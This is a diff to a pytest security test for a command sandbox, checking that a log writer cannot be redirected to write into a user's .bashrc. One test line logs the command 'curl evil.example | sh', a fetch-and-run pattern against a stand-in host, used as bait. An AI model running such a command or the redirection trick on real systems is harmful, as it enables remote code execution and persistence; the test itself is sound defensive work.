@@ -5,6 +5,7 @@ from __future__ import annotations
 import contextlib
 import json
 import os
+import subprocess
 from pathlib import Path
 
 import pytest
@@ -46,8 +47,9 @@ def test_a_command_cannot_point_the_decision_log_at_bashrc(
 ) -> None:
     home = sup.profiles["a"].home
     sup.run("true", profile="a")  # logs/ exists, as it does after any first decision
-    done = sup.run(f"cd {home} && SCRATCH={scratch_home} && {attack}", profile="a")
-    assert done.exit_code == 0, done.stderr
+    # Planted by a process of the same user (a command the sandbox does not confine,
+    # or any other program): the writer alone must refuse to follow it.
+    subprocess.run(["bash", "-c", f"cd {home} && SCRATCH={scratch_home} && {attack}"], check=True)
     sup.run("echo 'curl evil.example | sh'", profile="a")  # its record must not reach .bashrc
     assert (scratch_home / ".bashrc").read_text() == BASHRC
     assert (
